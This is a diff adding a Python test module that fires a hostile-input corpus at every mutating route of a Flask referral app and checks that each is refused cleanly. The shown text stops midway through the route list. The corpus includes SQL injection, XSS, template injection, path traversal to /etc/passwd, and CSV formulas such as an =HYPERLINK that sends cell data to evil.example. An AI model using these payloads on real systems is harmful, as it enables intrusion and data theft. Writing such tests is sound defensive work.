@@ -1,0 +1,2729 @@
+"""Hostile input corpus: every mutating route x at least 200 hostile inputs.
+
+The routes come from the app's url_map (and are checked against the OpenAPI document), so a
+new POST/PUT/PATCH/DELETE route fails `test_every_mutating_route_is_classified` until it is
+given a target here; each target then gets the whole corpus:
+
+- intake: bodies over 1 MiB, wrong content types and charsets, bad encodings (invalid UTF-8,
+  overlong forms, UTF-16/32 with BOMs, a UTF-8 BOM), broken JSON, non-object documents,
+  NaN/Infinity and overflowing numbers, duplicate keys, deep nesting;
+- per field, derived from the endpoint's marshmallow schema (nested ones included): wrong
+  JSON types, null where not nullable, out-of-range numbers and lengths, values outside
+  enums and patterns, malformed ids, e-mails, URLs and datetimes;
+- control and bidi characters, and injection strings (SQL, HTML/script, CSV formulas such as
+  =HYPERLINK(...), template syntax such as {{7*7}}) in every string field: all of them in the
+  first free-text field, a sample in the others (each one read back by the verbatim test);
+- server-owned fields (id, created_at, status, agency_id of another tenant, ...);
+- other tenants' ids, missing ids and garbage in every path parameter and in the body ids
+  that must belong to the caller's agency;
+- bad, expired, revoked and suspended bearer tokens, tokens without the scope, token plus
+  session cookie;
+- replayed Idempotency-Keys with other bodies (and malformed keys);
+- missing and forged CSRF tokens on session-authenticated calls.
+
+Every response: no 5xx, an X-Request-Id, and every API error is application/problem+json in
+the documented shape (`errors` naming the field for validation errors). The OAuth endpoints
+answer RFC 6749 error objects and the staff pages HTML, as the design says.
+
+After refused requests the database fingerprint (row counts plus a hash of the contents of
+every table in both databases, the key store included) is unchanged. Left out, and why:
+- `audit_event`, `audit_head`, `audit_checkpoint`: refusals are *meant* to leave a record
+  (`access.denied` for a forbidden action or another tenant's id, failed sign-ins and client
+  authentications), written after the request rolled back. Instead of ignoring them, every
+  event added by refused requests is checked to be such a denial or failure record.
+- `rate_limit_counter`: every authenticated API call and every failed sign-in is counted and
+  committed before the request runs, on purpose (a rolled-back request must still count).
+- `staff_session.last_seen_at`: touched by any request at most once a minute.
+Requests that are accepted (the valid baselines, free text that may hold any string) are
+rolled back to a savepoint at once, so every input meets the same state.
+"""
+
+from __future__ import annotations
+
+import base64
+import copy
+import csv
+import hashlib
+import io
+import itertools
+import json
+import re
+import urllib.parse
+import uuid
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass, field
+from dataclasses import fields as dataclass_fields
+from datetime import timedelta
+from typing import Any, cast
+
+import pyotp
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from markupsafe import escape
+from marshmallow import Schema, fields, validate
+from sqlalchemy import Connection, MetaData, Table, select, update
+
+from referral_hub.core.actor import Actor, ActorKind
+from referral_hub.core.db import transaction
+from referral_hub.extensions import db
+from referral_hub.referrals.deadlines import Urgency
+from tests import factories
+
+MUTATING = frozenset({"POST", "PUT", "PATCH", "DELETE"})
+MIN_INPUTS_PER_ROUTE = 200
+MIN_INPUTS_IN_ALL = 5000
+CHUNK = 25  # requests between two fingerprints; a changed one is re-run request by request
+ONE_MIB = 1024 * 1024
+
+# --- the corpus: strings ------------------------------------------------------------------
+
+INJECTION = {
+    "sql quote break": "'; DROP TABLE agency; --",
+    "sql tautology": "' OR '1'='1",
+    "sql union": "x' UNION SELECT password_hash FROM user_account --",
+    "sql stacked sleep": "1; SELECT pg_sleep(5)--",
+    "sql comment": "admin'/*",
+    "html script": "<script>alert(1)</script>",
+    "html img onerror": "<img src=x onerror=alert(1)>",
+    "html attribute break": '"><svg onload=alert(1)>',
+    "javascript url": "javascript:alert(document.cookie)",
+    "csv hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
+    "csv plus": "+cmd|' /C calc'!A0",
+    "csv minus": "-2+3+cmd|' /C calc'!A0",
+    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "csv tab": "\t=1+1",
+    "csv carriage return": "\r=1+1",
+    "jinja expression": "{{7*7}}",
+    "jinja config": "{{ config.items() }}",
+    "jinja statement": "{% for x in range(9999999) %}x{% endfor %}",
+    "dollar template": "${7*7}",
+    "erb template": "<%= 7*7 %>",
+    "path traversal": "../../../etc/passwd",
+    "format string": "%s%s%s%n",
+    "log line forging": "ok\n2026-01-01 INFO forged line",
+}
+CONTROL = {
+    "bidi override": "abc\u202etxt.exe",
+    "bidi isolates": "\u2066evil\u2069",
+    "bidi embedding": "\u202aname\u202c",
+    "zero width space": "na\u200bme",
+    "zero width joiner": "a\u200db",
+    "BOM inside": "na\ufeffme",
+    "BEL": "ring\x07",
+    "ANSI escape": "\x1b[31mred\x1b[0m",
+    "backspaces": "abc\x08\x08\x08xyz",
+    "vertical tab and form feed": "a\x0bb\x0cc",
+    "CRLF": "line1\r\nline2",
+    "NEL and line separators": "a\u0085b\u2028c\u2029d",
+    "DEL": "a\x7fb",
+    "C1 control": "a\x9bb",
+    "combining marks": "a" + "\u0301" * 30,
+    "astral and ZWJ emoji": "\U0001f3e0 shelter \U0001f469\u200d\U0001f467",
+    "noncharacters": "a\ufffeb\uffff",
+    "private use": "\ue000\ue001",
+}
+STRINGS = {**INJECTION, **CONTROL}
+SAMPLE = (
+    "sql quote break",
+    "html script",
+    "csv hyperlink",
+    "jinja expression",
+    "bidi override",
+    "zero width space",
+    "CRLF",
+    "ANSI escape",
+)
+# refused at intake whatever the field (400): they make one parser see another document
+INTAKE_REFUSED_STRINGS = {"NUL": "na\x00me", "lone surrogate": "na\ud800me"}
+
+# --- the corpus: raw bodies ---------------------------------------------------------------
+
+BROKEN_JSON: dict[str, bytes] = {
+    "open brace": b"{",
+    "close brace": b"}",
+    "open bracket": b"[",
+    "key without value": b'{"a"}',
+    "colon without value": b'{"a":}',
+    "trailing comma in object": b'{"a": 1,}',
+    "trailing comma in array": b'{"a": [1,]}',
+    "single quotes": b"{'a': 1}",
+    "unquoted key": b"{a: 1}",
+    "two documents": b'{"a": 1} {"b": 2}',
+    "trailing bracket": b'{"a": 1}]',
+    "trailing garbage": b'{"a": 1} extra',
+    "undefined": b'{"a": undefined}',
+    "hex number": b'{"a": 0x10}',
+    "leading zero": b'{"a": 01}',
+    "bare fraction": b'{"a": .5}',
+    "plus sign": b'{"a": +1}',
+    "dangling point": b'{"a": 1.}',
+    "incomplete exponent": b'{"a": 1e}',
+    "double minus": b'{"a": --1}',
+    "raw control character": b'{"a": "x\x01y"}',
+    "raw newline in string": b'{"a": "x\ny"}',
+    "bad escape": b'{"a": "\\x41"}',
+    "short unicode escape": b'{"a": "\\u12"}',
+    "unterminated string": b'{"a": "unterminated}',
+    "block comment": b'/* c */ {"a": 1}',
+    "line comment": b'{"a": 1} // c',
+    "Python True": b'{"a": True}',
+    "Python None": b'{"a": None}',
+    "misspelt null": b'{"a": nul}',
+    "NUL byte": b"\x00",
+    "only whitespace": b" \n\t ",
+    "escaped lone high surrogate": b'{"a": "\\ud83d"}',
+    "escaped lone low surrogate": b'{"a": "\\ude00x"}',
+    "escaped NUL": b'{"a": "\\u0000"}',
+}
+NOT_AN_OBJECT: dict[str, bytes] = {
+    "a string": b'"just a string"',
+    "null": b"null",
+    "a number": b"123",
+    "true": b"true",
+    "an empty array": b"[]",
+    "an array of objects": b"[{}]",
+}
+NUMBERS_REFUSED: dict[str, str] = {
+    "NaN": "NaN",
+    "-NaN": "-NaN",
+    "Infinity": "Infinity",
+    "-Infinity": "-Infinity",
+    "1e999": "1e999",
+    "-1e999": "-1e999",
+    "5000-digit integer": "9" * 5000,
+    "5000-digit negative": "-" + "9" * 5000,
+}
+CONTENT_TYPES = {
+    "text/plain": "text/plain",
+    "form": "application/x-www-form-urlencoded",
+    "multipart": "multipart/form-data; boundary=xyz",
+    "xml": "application/xml",
+    "html": "text/html",
+    "javascript": "application/javascript",
+    "text/json": "text/json",
+    "x-json": "application/x-json",
+    "octet-stream": "application/octet-stream",
+    "image": "image/png",
+    "latin-1 charset": "application/json; charset=latin-1",
+    "utf-16 charset": "application/json; charset=utf-16",
+    "utf-32 charset": "application/json; charset=utf-32",
+    "no content type": "",
+}
+
+
+def bad_encodings(document: bytes) -> dict[str, bytes]:
+    """The same document, or one string in it, in encodings the hub must refuse (400)."""
+    text = document.decode()
+    return {
+        "invalid byte 0xff": b'{"a": "Caf\xffe"}',
+        "latin-1 e-acute": b'{"a": "Caf\xe9"}',
+        "truncated sequence": b'{"a": "x\xc3"}',
+        "overlong slash": b'{"a": "\xc0\xaf"}',
+        "overlong NUL": b'{"a": "\xc0\x80"}',
+        "CESU-8 surrogate": b'{"a": "\xed\xa0\x80"}',
+        "above U+10FFFF": b'{"a": "\xf4\x90\x80\x80"}',
+        "five-byte form": b'{"a": "\xf8\x88\x80\x80\x80"}',
+        "lone continuation byte": b'{"a": "\x80"}',
+        "UTF-8 BOM": b"\xef\xbb\xbf" + document,
+        "UTF-16 LE with BOM": b"\xff\xfe" + text.encode("utf-16-le"),
+        "UTF-16 BE with BOM": b"\xfe\xff" + text.encode("utf-16-be"),
+        "UTF-16 LE without BOM": text.encode("utf-16-le"),
+        "UTF-32 with BOM": text.encode("utf-32"),
+    }
+
+
+# server-owned names a caller might try to set, each with a tempting value ({other} is
+# replaced by the other tenant's agency id, {other_user} by one of its users)
+SERVER_OWNED: dict[str, Any] = {
+    "id": "{other_object}",
+    "created_at": "2020-01-01T00:00:00Z",
+    "updated_at": "2020-01-01T00:00:00Z",
+    "status": "active",
+    "agency_id": "{other}",
+    "owner_agency_id": "{other}",
+    "owner_agency": "{other}",
+    "created_by": "{other_user}",
+    "recorded_by": "{other_user}",
+    "sender_agency": "{other}",
+    "receiver_agency_id": "{other}",
+    "client_secret": "rhs_forged",
+    "secret": "whsec_forged",
+    "secret_hash": "0" * 64,
+    "password_hash": "$argon2id$forged",
+    "totp_secret": "JBSWY3DPEHPK3PXP",
+    "is_active": True,
+    "held": 5,
+    "stale": False,
+    "reference": "FORGED-1",
+    "erased_at": "2020-01-01T00:00:00Z",
+    "revoked_at": None,
+    "sent_at": "2020-01-01T00:00:00Z",
+    "hsds_id": "forged",
+    "seq": 1,
+    "chain_hash": "0" * 64,
+    "roles": ["hub_admin"],
+    "scopes": ["admin", "audit:read"],
+    "__proto__": {"admin": True},
+    "constructor": {"prototype": {"admin": True}},
+    "$where": "1 == 1",
+}
+GARBAGE_SEGMENTS = {
+    "not a uuid": "not-a-uuid",
+    "zero": "0",
+    "uuid with suffix": "{uuid}x",
+    "uuid without a digit": "{uuid_short}",
+    "sql": "' OR 1=1 --",
+    "html": "<script>alert(1)</script>",
+    "template": "{{7*7}}",
+    "traversal": "../../etc/passwd",
+    "NUL": "\x00",
+    "bidi": "\u202e",
+    "5000 characters": "a" * 5000,
+}
+
+# --- the world: two tenants and a third agency, as plain ids --------------------------------
+
+
+@dataclass(frozen=True)
+class Person:
+    user_id: str
+    agency_id: str
+    roles: tuple[str, ...]
+    email: str
+    totp: str | None
+
+    def actor(self) -> Actor:
+        return Actor(ActorKind.USER, self.user_id, uuid.UUID(self.agency_id), frozenset(self.roles))
+
+
+@dataclass(frozen=True)
+class World:
+    """Agency A (own, whose staff act), agency B (other tenant), agency C (third: receives)."""
+
+    own: str
+    other: str
+    third: str
+    own_user: str
+    other_user: str
+    own_api_client: str
+    other_api_client: str
+    own_service: str
+    other_service: str
+    third_service: str
+    fourth_service: str
+    own_client: str
+    other_client: str
+    own_consent: str
+    other_consent: str
+    own_referral: str
+    other_referral: str
+    own_webhook: str
+    other_webhook: str
+    own_bundle: str
+    people: dict[str, Person]
+    tokens: dict[str, str]  # label -> bearer token (all of them unusable for these calls)
+    client_credentials: tuple[str, str]  # (client_id, secret) of agency A's system
+
+    def ids(self) -> dict[str, str]:
+        return {
+            f.name: getattr(self, f.name)
+            for f in dataclass_fields(self)
+            if isinstance(getattr(self, f.name), str)
+        }
+
+
+def fake_world() -> World:
+    """Random ids: enough to build (and count) the corpus without a database."""
+    person = Person(str(uuid.uuid4()), str(uuid.uuid4()), ("intake",), "x@agency.example", None)
+    names = [f.name for f in dataclass_fields(World)]
+    values: dict[str, Any] = {name: str(uuid.uuid4()) for name in names}
+    values["people"] = dict.fromkeys(PEOPLE, person)
+    values["tokens"] = dict.fromkeys(TOKEN_LABELS, "rht_fake")
+    values["client_credentials"] = ("rhc_fake", "rhs_fake")
+    return World(**values)
+
+
+PEOPLE = {
+    "hub_admin": ("own", ("hub_admin",)),
+    "admin": ("own", ("agency_admin",)),
+    "intake": ("own", ("intake",)),
+    "provider": ("own", ("provider",)),
+    "receiver": ("third", ("provider",)),
+    "enrolling": ("own", ("agency_admin",)),  # TOTP required, not set up yet
+    "second_factor": ("own", ("intake",)),  # TOTP optional, not set up
+}
+TOKEN_LABELS = (
+    "narrow scope",
+    "expired",
+    "revoked",
+    "suspended client",
+    "suspended agency",
+    "other tenant",
+)
+
+
+def clock_now() -> Any:
+    from referral_hub.core import clock
+
+    return clock.now()
+
+
+def build_world(http: FlaskClient) -> World:
+    """Real rows through the real services, committed into the test's outer transaction."""
+    from referral_hub.agencies.models import AgencyStatus, User
+    from referral_hub.auth.models import AccessToken, ApiClient, digest
+    from referral_hub.auth.service import create_api_client
+    from referral_hub.clients.service import create_client
+    from referral_hub.consent.service import record_consent
+    from referral_hub.core.actor import SYSTEM
+    from referral_hub.notifications.webhooks import subscribe
+    from referral_hub.referrals import bundles
+    from referral_hub.referrals import service as referrals
+
+    with transaction():
+        agencies = {name: factories.agency() for name in ("own", "other", "third", "frozen")}
+        people: dict[str, Person] = {}
+        for label, (where, roles) in PEOPLE.items():
+            user: User = factories.with_password(factories.user(agencies[where], roles))
+            secret = (
+                factories.with_totp(user)
+                if label not in ("enrolling", "second_factor") and user.needs_totp
+                else None
+            )
+            people[label] = Person(str(user.id), str(user.agency_id), roles, user.email, secret)
+        own_user = factories.user(agencies["own"], ["provider"])
+        other_user = factories.user(agencies["other"], ["provider"])
+        own_api, _ = create_api_client(
+            SYSTEM, agency_id=agencies["own"].id, name="Own", scopes=["directory:read"]
+        )
+        other_api, _ = create_api_client(
+            SYSTEM, agency_id=agencies["other"].id, name="Other", scopes=["directory:read"]
+        )
+        own_service = factories.directory_service(agencies["own"])
+        factories.capacity(own_service, total=4, available=2)
+        other_service = factories.directory_service(agencies["other"])
+        third_service = factories.directory_service(agencies["third"], "emergency_shelter")
+        factories.capacity(third_service, total=4, available=2)
+        fourth_service = factories.directory_service(agencies["third"], "case_management")
+        records: dict[str, Any] = {}
+        for name in ("own", "other"):
+            actor = Actor(ActorKind.USER, "hostile", agencies[name].id, frozenset({"intake"}))
+            record = create_client(actor, pii={"contact": "hostile"}, profile={"language": "en"})
+            records[f"{name}_client"] = record
+            records[f"{name}_consent"] = record_consent(
+                actor,
+                record.id,
+                recipients=[agencies["third"].id],
+                purposes=["emergency_shelter"],
+                data_categories=["contact"],
+                method="written",
+                signer="survivor",
+                form_version="1",
+                form_language="en",
+                signed_at=clock_now(),
+            )
+            admin = Actor(ActorKind.USER, "hostile", agencies[name].id, frozenset({"agency_admin"}))
+            # an event the corpus never causes: no delivery attempts to a host that is not there
+            records[f"{name}_webhook"] = subscribe(
+                admin, url="https://partner.example/h", events=["referral.entered_in_error"]
+            )[0]
+        own_intake = people["intake"].actor()
+        referred = create_client(own_intake, profile={"language": "en"})
+        records["own_referral"] = referrals.send_referral(
+            own_intake,
+            client_id=referred.id,
+            service_id=third_service.id,
+            urgency=Urgency.ROUTINE,
+            data_categories=["profile"],
+        )
+        other_actor = Actor(ActorKind.USER, "hostile", agencies["other"].id, frozenset({"intake"}))
+        other_person = create_client(other_actor, profile={"language": "en"})
+        records["other_referral"] = referrals.send_referral(
+            other_actor,
+            client_id=other_person.id,
+            service_id=own_service.id,
+            urgency=Urgency.ROUTINE,
+            data_categories=["profile"],
+        )
+        records["own_bundle"] = bundles.create_bundle(
+            own_intake,
+            client_id=referred.id,
+            urgency=Urgency.ROUTINE,
+            needs=[
+                {
+                    "category": "case_management",
+                    "service_ids": [fourth_service.id],
+                    "data_categories": ["profile"],
+                }
+            ],
+        )
+        all_scopes = ["capacity:write", "clients:write", "clients:read", "referrals:read"]
+        all_scopes += ["referrals:write", "admin", "directory:read"]
+        credentials = {
+            "own": factories.api_client(agencies["own"], all_scopes),
+            "narrow scope": factories.api_client(agencies["own"], ["directory:read"]),
+            "expired": factories.api_client(agencies["own"], all_scopes),
+            "revoked": factories.api_client(agencies["own"], all_scopes),
+            "suspended client": factories.api_client(agencies["own"], all_scopes),
+            "suspended agency": factories.api_client(agencies["frozen"], all_scopes),
+            "other tenant": factories.api_client(agencies["other"], all_scopes),
+        }
+        ids = {
+            "own": str(agencies["own"].id),
+            "other": str(agencies["other"].id),
+            "third": str(agencies["third"].id),
+            "own_user": str(own_user.id),
+            "other_user": str(other_user.id),
+            "own_api_client": str(own_api.id),
+            "other_api_client": str(other_api.id),
+            "own_service": str(own_service.id),
+            "other_service": str(other_service.id),
+            "third_service": str(third_service.id),
+            "fourth_service": str(fourth_service.id),
+            **{name: str(row.id) for name, row in records.items()},
+        }
+    tokens = {label: factories.token(http, *credentials[label]) for label in TOKEN_LABELS}
+    with transaction() as session:  # make each token unusable in its own way
+        session.execute(
+            update(AccessToken)
+            .where(AccessToken.token_hash == digest(tokens["expired"]))
+            .values(expires_at=clock_now() - timedelta(minutes=1))
+        )
+        session.execute(
+            update(AccessToken)
+            .where(AccessToken.token_hash == digest(tokens["revoked"]))
+            .values(revoked_at=clock_now())
+        )
+        session.execute(
+            update(ApiClient)
+            .where(ApiClient.client_id == credentials["suspended client"][0])
+            .values(is_active=False)
+        )
+        agencies["frozen"].status = AgencyStatus.SUSPENDED
+    db.session.remove()  # from here on only plain ids: no ORM state to go stale
+    return World(
+        **ids,
+        people=people,
+        tokens=tokens,
+        client_credentials=credentials["own"],
+    )
+
+
+def sign_in(http: FlaskClient, person: Person) -> str:
+    """Sign in through the real pages; returns the session's CSRF token."""
+    page = http.get("/login").get_data(as_text=True)
+    response = http.post(
+        "/login",
+        data={
+            "email": person.email,
+            "password": factories.TEST_PASSWORD,
+            "csrf_token": factories.csrf_from(page),
+        },
+    )
+    assert response.status_code == 302, response.get_data(as_text=True)
+    if response.headers["Location"].endswith("/login/code"):
+        assert person.totp, "this person needs a TOTP secret"
+        page = http.get("/login/code").get_data(as_text=True)
+        response = http.post(
+            "/login/code",
+            data={"code": pyotp.TOTP(person.totp).now(), "csrf_token": factories.csrf_from(page)},
+        )
+        assert response.status_code == 302, response.get_data(as_text=True)
+    return factories.csrf_from(http.get("/").get_data(as_text=True))
+
+
+# --- cases ----------------------------------------------------------------------------------
+
+REJECT, EITHER, ACCEPT, NOOP = "reject", "either", "accept", "noop"
+
+
+@dataclass(frozen=True)
+class Case:
+    """One request and what it may answer.
+
+    outcome: REJECT (4xx only), EITHER (free text: may be taken or refused), ACCEPT (the
+    valid baselines: 2xx), NOOP (may answer 2xx but must change nothing, e.g. a replay).
+    """
+
+    label: str
+    category: str
+    method: str
+    path: str
+    body: bytes | None = None
+    content_type: str | None = "application/json"
+    headers: tuple[tuple[str, str], ...] = ()
+    acting: bool = True  # act_as the target's person; False: credentials in the request
+    via: str = "plain"  # which test client: "plain" (no cookies) or "session"
+    outcome: str = REJECT
+    statuses: frozenset[int] | None = None  # allowed statuses, when the category fixes them
+    names: str | None = None  # a validation error must name this field
+    sent: Any = None  # the value sent, for the verbatim check of accepted free text
+    sent_at: tuple[Any, ...] = ()
+
+    def describe(self) -> str:
+        return f"[{self.category}] {self.label}"
+
+
+def dumps(document: Any) -> bytes:
+    """UTF-8 JSON; a lone surrogate (not encodable) goes as its \\u escape, as a client sends it."""
+    try:
+        return json.dumps(document, ensure_ascii=False).encode("utf-8")
+    except UnicodeEncodeError:
+        return json.dumps(document).encode("ascii")
+
+
+def with_value(document: Any, path: tuple[Any, ...], value: Any) -> Any:
+    """A deep copy of `document` with `value` at `path` (dicts and lists made as needed)."""
+    result = copy.deepcopy(document) if document is not None else {}
+    node = result
+    for index, key in enumerate(path[:-1]):
+        following = path[index + 1]
+        if isinstance(node, dict):
+            if not isinstance(node.get(key), dict | list):
+                node[key] = [{}] if isinstance(following, int) else {}
+            node = node[key]
+        else:
+            while len(node) <= key:
+                node.append({})
+            node = node[key]
+    if isinstance(node, list):
+        while len(node) <= path[-1]:
+            node.append(None)
+    node[path[-1]] = value
+    return result
+
+
+def raw_at(document: Any, path: tuple[Any, ...], raw: str) -> bytes:
+    """`document` with the raw JSON text `raw` at `path` (for NaN, huge numbers...)."""
+    marker = "__HOSTILE_RAW_VALUE__"
+    return dumps(with_value(document, path, marker)).replace(f'"{marker}"'.encode(), raw.encode())
+
+
+def dotted(path: tuple[Any, ...]) -> str:
+    return ".".join(str(part) for part in path)
+
+
+# --- schema-derived mutations -----------------------------------------------------------------
+
+STRING_LIKE = (fields.String, fields.UUID, fields.DateTime, fields.Date, fields.Enum)
+WRONG_FOR_STRING = {"a number": 42, "a float": 4.2, "true": True, "a list": ["x"], "an object": {}}
+WRONG_FOR_NUMBER = {"a numeric string": "3", "true": True, "a list": [1], "an object": {}}
+WRONG_FOR_BOOL = {"a string": "true", "1": 1, "0": 0, "a list": [True], "an object": {}}
+WRONG_FOR_LIST = {"a string": "x", "an object": {}, "a number": 5, "true": True}
+WRONG_FOR_OBJECT = {"a string": "x", "a list": [], "a number": 5, "true": True}
+
+
+def _validators(field_: fields.Field[Any]) -> list[Any]:
+    return list(getattr(field_, "validators", []) or [])
+
+
+def is_free_text(field_: fields.Field[Any]) -> bool:
+    """A string field that takes any text (up to a length): where injection strings belong."""
+    if not isinstance(field_, fields.String) or isinstance(
+        field_, fields.Email | fields.Url | fields.UUID
+    ):
+        return False
+    return not any(isinstance(v, validate.OneOf | validate.Regexp) for v in _validators(field_))
+
+
+def walk(
+    schema: Schema, base: Any, prefix: tuple[Any, ...] = ()
+) -> Iterator[tuple[tuple[Any, ...], fields.Field[Any]]]:
+    """Every loadable field, nested schemas and list items included, with its path."""
+    for name, field_ in schema.fields.items():
+        if field_.dump_only:
+            continue
+        key = field_.data_key or name
+        path = (*prefix, key)
+        yield path, field_
+        sub = base.get(key) if isinstance(base, dict) else None
+        if isinstance(field_, fields.Nested):
+            nested = field_.schema
+            if field_.many:
+                yield from walk(nested, (sub or [{}])[0], (*path, 0))
+            else:
+                yield from walk(nested, sub or {}, path)
+        elif isinstance(field_, fields.List):
+            inner = field_.inner
+            yield (*path, 0), inner
+            if isinstance(inner, fields.Nested):
+                yield from walk(inner.schema, (sub or [{}])[0], (*path, 0))
+
+
+def field_mutations(
+    field_: fields.Field[Any], every_string: bool = False
+) -> list[tuple[str, Any, str, frozenset[int]]]:
+    """(label, value, outcome, statuses) for one field: types, nulls, ranges, formats, and
+    hostile strings (all of them with `every_string`, else a sample)."""
+    out: list[tuple[str, Any, str, frozenset[int]]] = []
+    bad_type, bad_value = frozenset({400}), frozenset({422})
+
+    def wrong(values: dict[str, Any]) -> None:
+        out.extend(
+            (f"wrong type: {label}", value, REJECT, bad_type) for label, value in values.items()
+        )
+
+    def invalid(label: str, value: Any) -> None:
+        out.append((label, value, REJECT, bad_value))
+
+    if isinstance(field_, fields.Boolean):
+        wrong(WRONG_FOR_BOOL)
+    elif isinstance(field_, fields.Integer | fields.Float):
+        wrong(WRONG_FOR_NUMBER)
+    elif isinstance(field_, fields.Nested):
+        wrong(WRONG_FOR_LIST if field_.many else WRONG_FOR_OBJECT)
+    elif isinstance(field_, fields.List):
+        wrong(WRONG_FOR_LIST)
+    elif isinstance(field_, fields.Dict):
+        wrong(WRONG_FOR_OBJECT)
+    elif isinstance(field_, STRING_LIKE):
+        wrong(WRONG_FOR_STRING)
+    if not field_.allow_none:  # a value problem (422), or for an object a type one (400)
+        out.append(("null where not nullable", None, REJECT, frozenset({400, 422})))
+    for validator in _validators(field_):
+        if isinstance(validator, validate.Range):
+            low, high = validator.min, validator.max
+            if low is not None:
+                invalid(f"below the minimum {low}", low - 1)
+                invalid("far below the minimum", -(10**20))
+            if high is not None:
+                invalid(f"above the maximum {high}", high + 1)
+                invalid("beyond 64 bits", 10**20)
+                if isinstance(field_, fields.Float):
+                    invalid("largest double", 1.7e308)
+        elif isinstance(validator, validate.Length):
+            low, high = validator.min, validator.max
+            filler: Any = "x" if isinstance(field_, fields.String) else None
+            if isinstance(field_, fields.List):
+                filler = _valid_item(field_.inner)
+            if filler is None:
+                continue
+            many = isinstance(field_, fields.List)
+            if low:
+                invalid(f"shorter than {low}", [filler] * (low - 1) if many else filler * (low - 1))
+            if high is not None:
+                invalid(
+                    f"longer than {high}", [filler] * (high + 1) if many else filler * (high + 1)
+                )
+        elif isinstance(validator, validate.OneOf):
+            choice = str(next(iter(validator.choices)))
+            invalid("not one of the choices", "not-a-choice")
+            invalid("a choice in capitals", choice.upper() + "X")
+            invalid("a choice with a trailing space", choice + " ")
+            invalid("a choice with a zero-width space", choice + "\u200b")
+        elif isinstance(validator, validate.Regexp):
+            invalid("not matching the pattern", "x y z !")
+            invalid("the pattern with a trailing newline", "ab\n")
+    if isinstance(field_, fields.Enum):
+        invalid("not in the enum", "not-a-member")
+        invalid("the enum's name, not its value", "Shelter\u200b")
+    if isinstance(field_, fields.UUID):
+        invalid("not a uuid", "not-a-uuid")
+        invalid("uuid with a bad digit", "00000000-0000-0000-0000-00000000000g")
+        invalid("empty string id", "")
+    if isinstance(field_, fields.Email):
+        for label, value in {
+            "no at sign": "not-an-email",
+            "no domain dot": "a@b",
+            "markup": "<script>@x.example",
+            "trailing newline": "a@b.example\n",
+            "300 characters": "x" * 300 + "@example.org",
+        }.items():
+            invalid(f"e-mail: {label}", value)
+    if isinstance(field_, fields.Url):
+        for label, value in {
+            "javascript": "javascript:alert(1)",
+            "data": "data:text/html,<script>alert(1)</script>",
+            "no host": "http://",
+            "protocol relative": "//evil.example/x",
+            "space in host": "http://exa mple.org/",
+            "file": "file:///etc/passwd",
+        }.items():
+            invalid(f"url: {label}", value)
+    if isinstance(field_, fields.DateTime):
+        for label, value in {
+            "words": "yesterday",
+            "month 13": "2026-13-01T00:00:00Z",
+            "hour 25": "2026-01-01T25:00:00Z",
+            "naive": "2026-01-01T00:00:00",
+            "year 0": "0000-01-01T00:00:00Z",
+        }.items():
+            invalid(f"datetime: {label}", value)
+    elif isinstance(field_, fields.Date):
+        for label, value in {"words": "yesterday", "30 February": "2026-02-30"}.items():
+            invalid(f"date: {label}", value)
+    if isinstance(field_, STRING_LIKE) and not isinstance(field_, fields.DateTime | fields.Date):
+        free = is_free_text(field_)
+        # free text may take them (stored verbatim); a pattern or a list of choices refuses
+        strings = itertools.chain(INJECTION.items(), CONTROL.items())
+        for label, value in strings if every_string else ((k, STRINGS[k]) for k in SAMPLE):
+            out.append((f"string: {label}", value, EITHER if free else REJECT, frozenset()))
+        # within the 1 MiB body: a field without a length limit must not overflow a column
+        out.append(
+            ("string: 10,000 characters", "x" * 10_000, EITHER if free else REJECT, frozenset())
+        )
+    if isinstance(field_, STRING_LIKE):
+        for label, value in INTAKE_REFUSED_STRINGS.items():
+            out.append((f"string: {label}", value, REJECT, bad_type))
+    return out
+
+
+def _valid_item(inner: fields.Field[Any]) -> Any:
+    """A value one list item may hold (to make lists too long), or None if unknown."""
+    for validator in _validators(inner):
+        if isinstance(validator, validate.OneOf):
+            return next(iter(validator.choices))
+    if isinstance(inner, fields.UUID):
+        return str(uuid.uuid4())
+    if isinstance(inner, fields.String) and is_free_text(inner):
+        return "x"
+    return None
+
+
+# --- targets --------------------------------------------------------------------------------
+
+
+def consent_body(w: World) -> dict[str, Any]:
+    return {
+        "recipients": [w.third],
+        "purposes": ["emergency_shelter"],
+        "data_categories": ["contact"],
+        "method": "written",
+        "signer": "survivor",
+        "signer_authority": "Case worker",
+        "form_version": "1",
+        "form_language": "en",
+        "signed_at": (clock_now() - timedelta(hours=1)).isoformat(),
+    }
+
+
+def hsds_body(w: World) -> dict[str, Any]:
+    return {
+        "id": "hostile-1",
+        "name": "HSDS Service",
+        "status": "active",
+        "organization": {"id": "o", "name": "Hostile Org", "description": "d"},
+    }
+
+
+@dataclass(frozen=True)
+class Target:
+    endpoint: str
+    method: str
+    kind: str  # "api" (problem+json), "oauth" (RFC 6749 errors), "form" (staff pages)
+    path: str = ""  # {name} filled from World ids
+    person: str = ""  # who acts (a PEOPLE label)
+    body: Callable[[World], Any] | None = None
+    foreign: dict[str, tuple[str, ...]] = field(default_factory=dict)  # path param -> others
+    private: dict[str, tuple[str, ...]] = field(default_factory=dict)  # body id -> others
+
+    def url(self, w: World, **override: str) -> str:
+        return self.path.format(**{**w.ids(), **override})
+
+
+API_TARGETS = [
+    Target(
+        "agencies.create_agency",
+        "POST",
+        "api",
+        "/api/v1/agencies",
+        "hub_admin",
+        lambda w: {"name": "Harbor Light", "kind": "shelter", "city": "Riverbend"},
+    ),
+    Target(
+        "access.update_agency",
+        "PATCH",
+        "api",
+        "/api/v1/agencies/{own}",
+        "admin",
+        lambda w: {"city": "Riverbend", "name": "Harbor Renamed"},
+        foreign={"own": ("other", "third")},
+    ),
+    Target(
+        "access.create_api_client",
+        "POST",
+        "api",
+        "/api/v1/agencies/{own}/api-clients",
+        "admin",
+        lambda w: {"name": "Case system", "scopes": ["directory:read"]},
+        foreign={"own": ("other",)},
+    ),
+    Target(
+        "access.revoke_api_client",
+        "POST",
+        "api",
+        "/api/v1/agencies/{own}/api-clients/{own_api_client}/revoke",
+        "admin",
+        None,
+        foreign={"own": ("other",), "own_api_client": ("other_api_client",)},
+    ),
+    Target(
+        "agencies.create_user",
+        "POST",
+        "api",
+        "/api/v1/agencies/{own}/users",
+        "admin",
+        lambda w: {
+            "email": "new.person@agency.example",
+            "display_name": "New",
+            "roles": ["intake"],
+        },
+        foreign={"own": ("other",)},
+    ),
+    Target(
+        "access.update_user",
+        "PATCH",
